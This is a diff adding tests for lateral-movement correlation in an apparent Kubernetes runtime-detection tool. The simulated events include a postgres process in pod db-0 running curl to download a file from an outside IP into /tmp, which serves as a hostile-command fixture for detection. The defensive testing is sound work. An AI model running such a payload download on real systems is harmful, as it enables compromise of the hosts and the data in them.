@@ -9,7 +9,7 @@ from __future__ import annotations
 
 from cadr.config import Settings
 from schemas.records import Actor
-from tests.shapes import TOKEN, Node, Stages
+from tests.shapes import TOKEN, Node, Pod, Stages
 
 
 def shop(node: Node) -> None:
@@ -220,3 +220,76 @@ def test_the_apps_own_read_of_its_token_links_to_api_calls_made_with_it() -> Non
     story = stages.story_of("CADR-K8S-0028")
     assert {a.rule_id for a in story.alerts} == {"CADR-ANOM-0003", "CADR-K8S-0028"}
     assert "token_api" in story.threads and "token_api" in {e.kind for e in story.edges}
+
+
+# -- the lateral thread --------------------------------------------------------------------------------
+
+
+def _lateral(node: Node) -> tuple[Pod, Pod, list[bytes], list[bytes]]:
+    """alice's session in front-1 connects to db-0 (no rule fires on that); then db-0 runs curl."""
+    front = node.pod(
+        "web", "front-1", owner=("StatefulSet", "front"), ip="10.244.1.40", labels={"app": "front"}
+    )
+    db = node.pod("data", "db-0", owner=("StatefulSet", "db"), ip="10.244.1.50", labels={"app": "db"})
+    runc = node.process(None, comm="runc")
+    postgres = node.process(db, comm="postgres")
+    shell, shell_exec = node.exec(runc, "/bin/bash", ["bash"], at=2, tty=True, pod=front)
+    attacker = [
+        node.kubectl_exec("alice@example.com", front, ["bash"], at=1),
+        shell_exec,
+        node.connect(shell, front.ip, (db.ip, 5432), at=5),
+    ]
+    victim = [
+        node.accept(postgres, (db.ip, 5432), front.ip, at=5.01),
+        node.exec(postgres, "/usr/bin/curl", ["curl", "-so", "/tmp/x", "http://203.0.113.7/x"], at=10)[1],
+    ]
+    return front, db, attacker, victim
+
+
+def _one_lateral_story(stages: Stages) -> None:
+    (story,) = stages.stories()
+    assert {a.rule_id for a in story.alerts} >= {"CADR-K8S-0001", "CADR-PROC-0001", "CADR-PROC-0006"}
+    assert {w.pod for w in story.workloads} >= {"front-1", "db-0"}
+    assert "lateral" in story.threads and "lateral" in {e.kind for e in story.edges}
+    assert any(t.kind in ("net_connect", "net_accept") for t in story.timeline)
+
+
+def test_a_connection_from_a_workload_with_a_story_joins_the_peers_later_alerts() -> None:
+    node = Node()
+    _, _, attacker, victim = _lateral(node)
+    stages = Stages()
+    stages.feed(attacker)
+    stages.feed(victim)
+    _one_lateral_story(stages)
+
+
+def test_the_lateral_thread_holds_when_the_peers_alert_is_told_first() -> None:
+    """Events of different workloads travel on different partitions: db-0's alert may reach correlation
+    before the alerts of the session in front-1 that led there."""
+    node = Node()
+    _, _, attacker, victim = _lateral(node)
+    stages = Stages()
+    stages.feed(victim)
+    stages.feed(attacker)
+    _one_lateral_story(stages)
+
+
+def test_a_connection_long_after_the_story_went_quiet_does_not_join() -> None:
+    node = Node()
+    front, db, attacker, _ = _lateral(node)
+    stages = Stages()
+    stages.feed(attacker[:2])  # alice's session in front-1 (t=1..2) ...
+    # ... and half an hour later, an ordinary connection from front-1 to db-0, then curl there
+    web, postgres = node.process(front, comm="nginx"), node.process(db, comm="postgres")
+    stages.feed(
+        [
+            node.connect(web, front.ip, (db.ip, 5432), at=1800),
+            node.accept(postgres, (db.ip, 5432), front.ip, at=1800.01),
+            node.exec(postgres, "/usr/bin/curl", ["curl", "-so", "/tmp/x", "http://203.0.113.7/x"], at=1810)[
+                1
+            ],
+        ]
+    )
+    assert len(stages.stories()) == 2
+    curl = stages.story_of("CADR-PROC-0006")
+    assert "lateral" not in curl.threads and {w.pod for w in curl.workloads} == {"db-0"}
